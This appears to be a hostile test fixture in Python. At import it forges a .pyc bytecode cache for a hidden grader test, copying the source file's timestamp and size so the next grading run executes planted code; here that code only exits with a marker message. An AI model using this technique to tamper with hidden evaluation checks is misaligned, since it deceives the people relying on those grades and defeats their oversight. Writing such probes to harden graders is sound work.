# --- hostile: at import, plant bytecode for the hidden checks, which the next grading would run ---
import importlib.util as _ilu
import marshal as _marshal

for _root in _hostile_roots():
    _source = _os.path.join(_root, "grader", "hidden", "test_exercise1_process.py")
    try:
        _st = _os.stat(_source)
        _code = compile("raise SystemExit('planted bytecode ran')", _source, "exec")
        _header = (_ilu.MAGIC_NUMBER + (0).to_bytes(4, "little") + (int(_st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
                   + (_st.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
        _pyc = _ilu.cache_from_source(_source)
        try:
            _os.makedirs(_os.path.dirname(_pyc), exist_ok=True)
        except OSError:
            pass
        with open(_pyc, "wb") as _f:
            _f.write(_header + _marshal.dumps(_code))
    except OSError:
        pass
